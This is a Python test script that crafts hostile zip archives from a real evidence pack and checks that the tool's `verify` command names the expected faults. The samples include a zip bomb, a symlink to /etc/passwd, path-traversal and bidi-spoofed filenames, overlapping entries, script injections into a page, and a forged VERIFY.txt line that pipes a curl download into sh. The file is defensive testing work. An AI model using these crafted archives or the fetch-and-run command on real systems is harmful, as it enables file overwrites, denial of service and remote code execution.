"""Hostile archives, crafted from a real pack: `verify` must refuse each with exactly the faults that are named here, and accept the good ones.

Stock zip readers accept many of them. What they say is in docs/hostile-archives.md, which PRONGSAI_UPDATE_GOLDEN=1 rewrites; a run holds only our own
column against it, since other programs' answers change with their versions.

usage: hostile_test.py PRONGSAI SOURCE_DIR
"""
import contextlib
import json
import os
import pathlib
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

from crafted_zip import UTF8, Entry, Zip, files_of, zip64_end, zip_of
from resealed import Pack

program, root = pathlib.Path(sys.argv[1]).resolve(), pathlib.Path(sys.argv[2]).resolve()
document = root / "docs/hostile-archives.md"
rows = []
problems = []


def row(what, data, *faults, stem=None):
    """One archive with the faults that `verify` must name; none for a good one."""
    rows.append((what, data, list(faults), stem))


def crafted(files, change):
    archive = zip_of(files)
    change(archive)
    return archive.bytes()


def at(archive, part):
    return next(entry for entry in archive.entries if part in entry.local.name.decode())


def add_structure(files, top):
    """Lies of the archive as a whole."""
    good = zip_of(files).bytes()
    last = len(files) - 1
    record = good.rindex(b"PK\x05\x06")
    directory = struct.unpack("<I", good[record + 16:record + 20])[0]

    def make(change):
        return crafted(files, change)

    def setting(**fields):
        def change(archive):
            for key, value in fields.items():
                setattr(archive, key, value)
        return make(change)

    def hidden(archive):
        ghost = Entry(f"{top}/data/ghost.pdf", b"%PDF ghost")
        archive.entries[3].hidden = struct.pack("<I", 0x04034B50) + ghost.local.fields() + ghost.local.name + ghost.data
    row("a file between two files that the directory does not name", make(hidden), "zip_hidden_bytes")

    def before_directory(archive):
        archive.entries[last].hidden = b"<script>alert(1)</script>"
    row("bytes between the last file and the directory", make(before_directory), "zip_hidden_bytes")
    row("bytes between the directory and the end record", setting(gap=b"evil"), "zip_directory_misplaced")
    row("a script after the end", setting(after=b"<script>alert(1)</script>"), "zip_data_after")
    row("a PDF's beginning before the zip", setting(before=b"%PDF-1.7\n"), "zip_data_before")

    def adjusted(archive):
        archive.before = b"%PDF-1.7\n"
        archive.directory_shift = 9
        for entry in archive.entries:
            entry.offset_shift = 9
    row("the same with all offsets made right", make(adjusted), "zip_data_before")
    row("two archives, one after the other", good + good, "zip_data_before")
    row("a comment", setting(comment=b"note"), "zip_comment")
    row("a whole zip in the comment", setting(comment=zip_of(files[:2]).bytes()), "zip_data_before")
    row("a second end record in the comment", setting(comment=good[-22:]), "zip_directory_misplaced")
    row("a second end record of no entries in the comment", setting(comment=struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0, 0, 0, 0, 0)), "zip_empty")
    row("a comment that is longer than it says", setting(comment=b"note", comment_size=2), "zip_data_after")
    row("a comment that is promised and not there", setting(comment_size=4), "zip_end_record_damaged")
    row("one file more counted than listed", setting(count=len(files) + 1), "zip_entry_damaged")
    row("one file less counted than listed", setting(count=len(files) - 1), "zip_end_record_damaged")
    row("two counts that differ", setting(count_here=len(files) - 1), "zip_end_record_damaged")
    row("an archive without files", Zip([]).bytes(), "zip_empty")
    row("no bytes at all", b"", "zip_no_end_record")
    row("this is disk two", setting(disk=1), "zip_several_disks")
    row("the directory is on disk two", setting(directory_disk=1), "zip_several_disks")
    row("a directory that begins one byte later", setting(directory_shift=1), "zip_directory_misplaced")
    row("a directory that is larger than the file", setting(directory_size=0x7FFFFFFF), "zip_directory_misplaced")
    needless = zip64_end(len(files), record - directory, directory, record)
    row("zip64 where nothing needs it", setting(zip64=needless), "zip_zip64_needless")
    row("zip64 that counts other files", setting(zip64=zip64_end(1, record - directory, directory, record)), "zip_end_record_damaged")
    row("a zip64 locator that points elsewhere", setting(zip64=zip64_end(len(files), record - directory, directory, record, locator=0)), "zip_zip64_needless")
    row("zip64 that claims a million million files", setting(zip64=zip64_end(10**12, record - directory, directory, record)), "zip_too_many_entries")
    for name, size in (("half", len(good) // 2), ("inside the directory", directory + 60), ("before the end record", record),
                       ("one byte of the end record", len(good) - 1), ("the first local header", 20)):
        row(f"cut off: {name}", good[:size], "zip_no_end_record")
    row("cut off: all but the end record", good[record:], "zip_directory_misplaced")


def add_fields(files, thai):
    """Lies of one entry."""
    plain = "index.html"

    def make(change, part=plain):
        return crafted(files, lambda archive: change(at(archive, part)))

    def both(part=plain, **fields):
        return make(lambda entry: entry.both(**fields), part)

    def one(side, **fields):
        def change(entry):
            for key, value in fields.items():
                setattr(getattr(entry, side), key, value)
        return make(change)

    def entry_field(**fields):
        def change(entry):
            for key, value in fields.items():
                setattr(entry, key, value)
        return make(change)

    def link(entry):
        data = b"/etc/passwd"
        entry.data, entry.external = data, 0o120777 << 16
        entry.both(crc=zlib.crc32(data), stored=len(data), size=len(data))
    row("a symbolic link to /etc/passwd", make(link), "zip_mode")
    row("a device", entry_field(external=0o060644 << 16), "zip_mode")
    row("a program that runs as its owner", entry_field(external=0o104755 << 16), "zip_mode")
    row("made by DOS", entry_field(made_by=0x003F), "zip_version")
    row("hidden by a DOS attribute", entry_field(external=0o100644 << 16 | 2), "zip_mode")

    def deflated(entry):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        text = entry.data
        entry.data = packer.compress(text) + packer.flush()
        entry.both(method=8, version=20, stored=len(entry.data))
    row("a file that is compressed", make(deflated), "zip_compressed")

    def bomb(entry):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = bytes(200_000_000)
        entry.data = packer.compress(data) + packer.flush()
        entry.both(method=8, version=20, stored=len(entry.data), size=len(data), crc=zlib.crc32(data))
    row("a bomb: 200 MB of zeros in 194 kB", make(bomb), "zip_compressed")
    row("a stored file that claims 2 GiB", both(stored=0x7FFFFFFF, size=0x7FFFFFFF), "zip_overlap")
    row("a size without compression that is not the stored size", both(size=1_000_000_000), "zip_sizes_differ")
    row("a size that is one byte short", both(size=len(dict(files)[next(n for n, _ in files if n.endswith(plain))]) - 1,
                                              stored=len(dict(files)[next(n for n, _ in files if n.endswith(plain))]) - 1), "zip_hidden_bytes")
    row("an encrypted file", both(flags=1), "zip_encrypted")
    row("a data descriptor that is promised", both(flags=8), "zip_data_descriptor")

    def descriptor(entry):
        entry.hidden = struct.pack("<IIII", 0x08074B50, entry.local.crc, entry.local.size, entry.local.size)
        entry.both(flags=8)
        entry.local.crc = entry.local.size = entry.local.stored = 0
    row("a data descriptor with the sizes behind the data", make(descriptor), "zip_data_descriptor")

    def lying_descriptor(entry):
        descriptor(entry)
        entry.hidden = struct.pack("<IIII", 0x08074B50, 0, 1, 1)
    row("a data descriptor that lies", make(lying_descriptor), "zip_data_descriptor")
    row("a patch flag", both(flags=0x20), "zip_flags")
    row("a Thai name that is not marked as UTF-8", both(thai, flags=0), "zip_utf8_flag_missing")
    row("a plain name that is marked as UTF-8", both(flags=UTF8), "zip_utf8_flag_needless")
    row("a time", both(time=0x6000), "zip_time")
    row("the version of another program", both(version=20), "zip_version")
    row("a text flag", entry_field(internal=1), "zip_attributes")
    row("a comment of an entry", entry_field(comment=b"note"), "zip_entry_comment")
    row("an entry on disk two", entry_field(disk=1), "zip_several_disks")

    unicode_path = b"evil.exe"

    def lying_path(entry):
        body = struct.pack("<BI", 1, zlib.crc32(entry.local.name)) + unicode_path
        entry.both(extra=struct.pack("<HH", 0x7075, len(body)) + body)
    row("a Unicode-path field with another name", make(lying_path), "zip_extra_field")
    row("a zip64 field with another size", both(extra=struct.pack("<HHQQ", 1, 16, 1, 1)), "zip_extra_field")
    row("a zip64 field that is asked for and not there", both(size=0xFFFFFFFF, stored=0xFFFFFFFF), "zip_zip64_missing")

    def lying64(entry):
        entry.both(size=0xFFFFFFFF, stored=0xFFFFFFFF, version=45)
        entry.local.extra = struct.pack("<HHQQ", 1, 16, len(entry.data), len(entry.data))
        entry.central.extra = entry.local.extra
    row("a small file in the form of zip64", make(lying64), "zip_extra_field")
    row("a field in the local header alone", one("local", extra=struct.pack("<HH1s", 0x5455, 1, b"\1")), "zip_hidden_bytes")
    for what, fields in (("size", {"size": 3, "stored": 3}), ("CRC", {"crc": 1}), ("flags", {"flags": 1}), ("method", {"method": 8}),
                         ("version", {"version": 20})):
        row(f"another {what} in the local header", one("local", **fields), "zip_local_differs")
    row("another name in the local header", one("local", name=files[0][0][:-9].encode() + b"data/iNdex.html"), "zip_local_name_differs")
    row("a local header without its signature", one("local", signature=0), "zip_local_missing")
    row("a directory entry without its signature", one("central", signature=0), "zip_entry_damaged")
    row("a CRC that is wrong in both headers", both(crc=1), "zip_crc")


def add_overlaps(files, top):
    first = zip_of(files)

    def overlapping(archive):
        archive.entries[4].offset_shift = -7
    row("two files that overlap", crafted(files, overlapping), "zip_overlap")

    def twice(archive):
        # A second name for bytes that are there once.
        offset, ghost = 0, Entry(f"{top}/data/zzz.txt", b"")
        for entry in archive.entries[:-1]:
            if entry.local.name.endswith(b"index.html"):
                break
            offset += 30 + len(entry.local.name) + len(entry.data)
        target = at(archive, "index.html")
        ghost.both(crc=target.local.crc, size=target.local.size, stored=target.local.stored)
        ghost.offset = offset
        place = next(i for i, entry in enumerate(archive.entries) if entry.local.name > ghost.local.name)
        archive.entries.insert(place, ghost)
    row("two names for the same bytes", crafted(files, twice), "zip_overlap")

    def quoted(archive):
        # As in a quine or the bombs of nested headers: the file's bytes are the header and bytes of the next file.
        outer, inner = archive.entries[3], archive.entries[4]
        inside = len(inner.local.name) + 30 + len(inner.data)
        outer.both(size=len(outer.data) + inside, stored=len(outer.data) + inside,
                   crc=zlib.crc32(outer.data + struct.pack("<I", inner.local.signature) + inner.local.fields() + inner.local.name + inner.data))
    row("a file whose bytes are the next file, header and all", crafted(files, quoted), "zip_overlap")
    assert first.bytes() == zip_of(files).bytes()


def add_names(files, top):
    def renamed(name, *faults, what):
        name = name if isinstance(name, bytes) else name.encode()

        def change(archive):
            data = at(archive, "order-1__").data
            archive.entries = [Entry(name, data) if b"order-1__" in entry.local.name else entry for entry in archive.entries]
        row(what, crafted(files, change), *faults)

    def beside(*names, what, fault):
        def change(archive):
            extra = [Entry(f"{top}/data/other/{name}", b"x") for name in names]
            archive.entries = archive.entries[:1] + sorted(archive.entries[1:] + extra, key=lambda entry: entry.local.name)
        row(what, crafted(files, change), fault)

    def doubled(archive):
        place = next(i for i, entry in enumerate(archive.entries) if b"order-1__" in entry.local.name)
        archive.entries.insert(place, Entry(archive.entries[place].local.name, b"another"))

    row("two files of one name", crafted(files, doubled), "name_duplicate")
    beside("A.txt", "a.txt", what="names that differ by case", fault="name_collision")
    beside("น้ำ.txt", "น้ํา.txt", what="names that differ by the spelling of sara am", fault="name_collision")
    beside("ที่.txt", "ท่ี.txt", what="names that differ by the order of marks", fault="name_collision")
    beside("แผน.txt", "เเผน.txt", what="names that differ by แ and เเ", fault="name_collision")
    beside("1.txt", "๑.txt", what="names that differ by Thai and other digits", fault="name_collision")
    beside("a.txt", "a\u200b.txt", what="names that differ by a blank of no width", fault="name_collision")
    beside("a", "a/b", what="a name that is a file and a folder", fault="name_file_and_folder")
    renamed(f"{top}/../../evil.txt", "name_traversal", what="a name that climbs out of its folder")
    renamed("/etc/passwd", "name_absolute", what="a name that starts at the root")
    renamed("C:/evil.txt", "name_drive", what="a name with a drive letter")
    renamed(f"{top}\\..\\evil.txt", "name_backslash", what="a name with backslashes")
    renamed(f"{top}/data/a\0.exe".encode(), "name_control", what="a name with a NUL")
    renamed(f"{top}/data/a\nb.txt", "name_control", what="a name with a line break")
    renamed(f"{top}/data/\u202efdp.exe", "name_bidi", what="a name that runs backwards")
    renamed(f"{top}/data/" + "ก" * 100 + ".txt", "name_too_long", what="a name of 304 bytes")
    renamed(f"{top}/data/100%.txt", "name_percent", what="a name with a percent sign")
    renamed(f"{top}/data/con?.txt", "name_character", what="a name with a question mark")
    renamed(f"{top}/data/a.txt.", "name_trailing", what="a name that ends with a dot")
    renamed(f"{top}/data/order/", "name_folder", what="a folder as an entry")
    renamed(f"{top}/data//order.txt", "name_empty", what="a name with an empty part")
    renamed(b"", "name_empty", what="an empty name")
    renamed(f"{top}/data/".encode() + b"\xe0\xb8.txt", "name_not_utf8", what="a name that is not UTF-8")
    renamed("other/data/order.txt", "top_folder", what="a second top folder")

    def unsorted(archive):
        archive.entries[4], archive.entries[5] = archive.entries[5], archive.entries[4]
    row("two entries in another order", crafted(files, unsorted), "not_sorted")

    def last(archive):
        archive.entries = archive.entries[1:] + archive.entries[:1]
    row("bagit.txt at the end", crafted(files, last), "bagit_not_first")
    row("a pack under another name", zip_of(files).bytes(), "top_folder_name", stem="renamed")


def add_forgeries(files, second):
    """Archives that every zip reader must accept: what is wrong is inside."""
    policy = next(path for path in Pack(files).files if "order-1__" in path)
    report = next(path for path in Pack(files).files if "report-1__" in path)

    def forged(what, change, *faults, crate=True, identifier=True, seal=True):
        pack = Pack(files)
        change(pack)
        if seal:
            pack.reseal(crate, identifier)
        row(what, zip_of(pack.listed()).bytes(), *faults)

    def put(path, data):
        return lambda pack: pack.files.__setitem__(path, data)

    forged("evidence replaced", put(policy, b"forged"), "manifest_hash", "oxum_differs", "crate_size", "crate_hash", seal=False)

    def replaced_with_manifest(pack):
        pack.files[policy] = b"forged"
        pack.reseal_manifest()
    forged("evidence replaced, with the manifest", replaced_with_manifest, "manifest_hash", "manifest_hash", "crate_size", "crate_hash", seal=False)
    forged("evidence replaced, with both manifests", put(policy, b"forged"), "crate_size", "crate_hash", crate=False)
    forged("evidence replaced, with both manifests and the crate", put(policy, b"forged"), "info_value", "info_value", identifier=False)
    forged("two pieces of evidence exchanged, with both manifests", lambda pack: pack.swap(policy, report), "crate_size", "crate_hash", "crate_size",
           "crate_hash", crate=False)
    forged("a file that nothing lists", put("data/other/evil.pdf", b"x"), "manifest_not_listed", "oxum_differs", "crate_not_listed", seal=False)
    forged("a file that the manifests list and the crate does not", put("data/other/evil__x.pdf", b"x"), "crate_not_listed", crate=False)
    forged("evidence that no criterion of the score names", put(policy.replace("order-1__", "order-9__"), b"x"), "score_not_named")
    forged("a file of no known kind", put("data/setup.exe", b"MZ"), "payload_unnamed")
    forged("a file removed", lambda pack: pack.files.pop(policy), "manifest_no_file", "oxum_differs", "crate_no_file", seal=False)
    forged("a list of files to fetch", put("fetch.txt", b"https://example.com/x 1 data/x\n"), "bag_file_unknown", "manifest_not_listed", seal=False)
    forged("a command more in VERIFY.txt", lambda pack: pack.replace("VERIFY.txt", b"    cd ", b"    curl https://example.com | sh\n    cd "), "verify_text")
    forged("a score raised and written otherwise", lambda pack: pack.replace("metadata/score.json", b'"total": ', b'"total": 99,\n  "total": '), "json_form")
    forged("a score that names a file that is not there", lambda pack: pack.replace("metadata/score.json", b"order-1__", b"order-8__"), "score_no_file",
           "score_not_named")
    forged("a score of another office", lambda pack: pack.replace("metadata/score.json", b'"id": "bang-rak"', b'"id": "bang-kapi"'), "score_pack")
    forged("evidence under the id of another", lambda pack: pack.replace("data/ro-crate-metadata.json", b'"identifier": "order-1"', b'"identifier": "order-3"'),
           "score_crate", "payload_unnamed")
    forged("withheld evidence inside", put("data/other/order-2__x.txt", b"x"), "withheld_inside")
    forged("a score that calls withheld evidence open",
           lambda pack: pack.replace("metadata/score.json", b',\n                  "withheld": true', b""), "withheld_differs")
    forged("JSON that is nested a hundred thousand deep", put("metadata/evil.json", b"[" * 100_000 + b"]" * 100_000), "json_deep")
    forged("a crate with a key twice", lambda pack: pack.replace("data/ro-crate-metadata.json", b'"@type": "Dataset"', b'"@type": "Dataset",\n      "@type": "Dataset"'),
           "json_form", crate=False)
    forged("a script in the page", lambda pack: pack.replace("data/index.html", b"<main>", b"<main><script>alert(1)</script>"), "page_active")
    forged("an image from elsewhere in the page", lambda pack: pack.replace("data/index.html", b"<main>", b'<main><img src="https://example.com/x.png">'),
           "page_active")
    forged("a form in the page", lambda pack: pack.replace("data/index.html", b"<main>", b'<main><form action="https://example.com">'), "page_active")
    forged("a link to another site in the page", lambda pack: pack.replace("data/index.html", b"<main>", b'<main><a href="https://example.com/">x</a>'),
           "page_address")
    forged("a link out of the pack in the page", lambda pack: pack.replace("data/index.html", b"../VERIFY.txt", b"../../VERIFY.txt"), "page_link")
    forged("another identifier", lambda pack: pack.set_label("External-Identifier", "urn:uuid:6ba7b811-9dad-51d1-80b4-00c04fd430c8"), "info_value",
           identifier=False)
    forged("another day", lambda pack: pack.set_label("Bagging-Date", "2020-01-01"), "info_value")
    forged("another label", lambda pack: pack.replace("bag-info.txt", b"Bagging-Date", b"Contact-Name: x\nBagging-Date"), "info_label")

    # Good ones.
    row("good: the pack itself, crafted again", zip_of(files).bytes())
    row("good: a pack without evidence", zip_of(second).bytes(), stem=second[0][0].split("/")[0])
    forged("good: all sums computed again, nothing changed", lambda pack: None)
    forged("not to be found inside: everything written anew, with all sums", put(policy, b"forged"))


STOCK = ("unzip", "7zz", "python3", "bsdtar", "yauzl")


def answer(done):
    words = (done.stdout + done.stderr).lower()
    if done.returncode != 0:
        return "refuses"
    return "warns" if "warning" in words else "accepts"


def stock_answers(path, scratch):
    """What readers that this project did not write say of an archive, by name; a reader that is not installed says nothing."""
    def call(*command):
        return subprocess.run(command, capture_output=True, text=True, errors="replace", timeout=120, check=False, cwd=scratch, env=dict(os.environ, LC_ALL="C.UTF-8"))

    answers = {}
    if shutil.which("unzip"):
        answers["unzip"] = answer(call("unzip", "-P", "", "-tqq", path))
    if shutil.which("7zz"):
        answers["7zz"] = answer(call("7zz", "t", "-p", path))
    try:
        with zipfile.ZipFile(path) as archive:
            answers["python3"] = "accepts" if archive.testzip() is None else "refuses"
    except Exception:  # pylint: disable=broad-except
        answers["python3"] = "refuses"
    if shutil.which("bsdtar"):
        with open(os.devnull, "wb") as nowhere:
            done = subprocess.run(["bsdtar", "-xOf", path], stdout=nowhere, stderr=subprocess.PIPE, timeout=120, check=False,
                                  env=dict(os.environ, LC_ALL="C.UTF-8"), stdin=subprocess.DEVNULL)
        answers["bsdtar"] = "refuses" if done.returncode else "warns" if done.stderr else "accepts"
    if shutil.which("node") and (root / "tests/browser/node_modules/yauzl").is_dir():
        answers["yauzl"] = answer(call("node", str(root / "tests/packs/judges.mjs"), "zip", str(path)))
    return answers


def verify(path, *options):
    done = subprocess.run([program, "verify", "--json", *options, path], capture_output=True, text=True, timeout=120, check=False)
    if done.returncode not in (0, 1):
        return done.returncode, [f"exit {done.returncode}: {done.stderr}"]
    report = json.loads(done.stdout)["packs"][0]
    return done.returncode, [finding["code"] for finding in report["findings"]]


def judge(what, data, faults, path):
    path.write_bytes(data)
    code, found = verify(path)
    if found != faults or code != (1 if faults else 0):
        problems.append(f"{what}: exit {code}, {', '.join(found) or 'no fault'}; expected {', '.join(faults) or 'no fault'}")
    return found


def check_outside(path, data, honest):
    """What nothing inside a pack can show, a hash from outside does."""
    path.write_bytes(data)
    neighbour = path.with_name(path.name + ".sha256")
    neighbour.write_text(honest, encoding="utf-8")
    for options, faults in (((), ["neighbour_differs"]), (("--root", "0" * 64), ["neighbour_differs", "root_differs"])):
        found = verify(path, *options)
        if found != (1, faults):
            problems.append(f"a pack written anew, {' '.join(options) or 'beside its .sha256'}: {found}")
    neighbour.unlink()
    for options, expected in ((("--root", "0" * 64), 1), (("--root", "0" * 63), 2)):
        done = subprocess.run([program, "verify", *options, path], capture_output=True, timeout=120, check=False)
        if done.returncode != expected:
            problems.append(f"verify {' '.join(options)}: exit {done.returncode}, expected {expected}")


def table(found, answers):
    lines = ["# Hostile archives", "",
             "Archives crafted from a real pack by `tests/packs/hostile_test.py`, what `prongsai verify` says of each, and what zip readers say that most",
             "people have. Rewritten by `./dev golden`; a test holds the column of `verify` against the program.", "",
             "Rows from “evidence replaced” on are well-formed zips: a zip reader is right to accept them, and what is wrong is inside. The last rows are",
             "good, but for a pack written anew with all its sums: [pack-checks.md](pack-checks.md) says what finds that.", "",
             "| archive | `verify` | " + " | ".join(STOCK) + " |", "|---|---|" + "---|" * len(STOCK)]
    for what, _, _, _ in rows:
        names = ", ".join(f"`{name}`" for name in dict.fromkeys(found[what])) or "good"
        lines.append(f"| {what} | {names} | " + " | ".join(answers[what].get(reader, "–") for reader in STOCK) + " |")
    bad = [what for what, _, faults, _ in rows if faults]
    structural = [what for what in bad if found[what][0].startswith(("zip_", "name_", "top_", "not_sorted", "bagit_not"))]
    lines += ["", f"Of {len(bad)} bad archives `verify` refuses {sum(1 for what in bad if found[what])}. Of the {len(structural)} that lie about the zip itself"
              " the readers refuse: " + ", ".join(f"{reader} {sum(answers[what].get(reader) == 'refuses' for what in structural)}" for reader in STOCK) + "."]
    return "\n".join(lines) + "\n"


def documented():
    """Our own column of the table."""
    if not document.exists():
        return {}
    cells = [line.split(" | ") for line in document.read_text(encoding="utf-8").splitlines() if line.startswith("| ") and " | " in line]
    return {cell[0][2:]: cell[1] for cell in cells[1:]}


def main():
    update = os.environ.get("PRONGSAI_UPDATE_GOLDEN") == "1"
    with contextlib.ExitStack() as stack:
        folder = pathlib.Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="prongsai-hostile-")))
        subprocess.run([program, "build", root / "tests/sites/full/content", "-o", folder / "site"], check=True, capture_output=True, timeout=300)
        pack = folder / "site/packs/bang-rak_2564_small.zip"
        files, second = files_of(pack), files_of(folder / "site/packs/bureau_2564_small.zip")
        if zip_of(files).bytes() != pack.read_bytes():
            problems.append("the crafted archive without a lie is not the pack that the program wrote")
        top = pack.stem
        add_structure(files, top)
        add_fields(files, "report-2__")
        add_overlaps(files, top)
        add_names(files, top)
        add_forgeries(files, second)
        found, answers = {}, {}
        for what, data, faults, stem in rows:
            path = folder / f"{stem or top}.zip"
            found[what] = judge(what, data, faults, path)
            if update:
                answers[what] = stock_answers(path, folder)
            path.unlink()
        check_outside(folder / f"{top}.zip", rows[-1][1], (folder / f"site/packs/{top}.zip.sha256").read_text(encoding="utf-8"))
    if len({what for what, _, _, _ in rows}) != len(rows):
        problems.append("two archives have one name")
    if update:
        document.write_text(table(found, answers), encoding="utf-8")
    said = documented()
    for what, _, _, _ in rows:
        names = ", ".join(f"`{name}`" for name in dict.fromkeys(found[what])) or "good"
        if said.get(what) != names:
            problems.append(f"docs/hostile-archives.md says {said.get(what)} of `{what}`, the program {names}; run ./dev golden")
    if len(said) != len(rows):
        problems.append("docs/hostile-archives.md has another number of archives")
    print(*problems, sep="\n")
    print(f"{len(rows)} archives, {sum(1 for one in rows if one[2])} of them bad; {len(problems)} problems")
    return 1 if problems else 0


sys.exit(main())
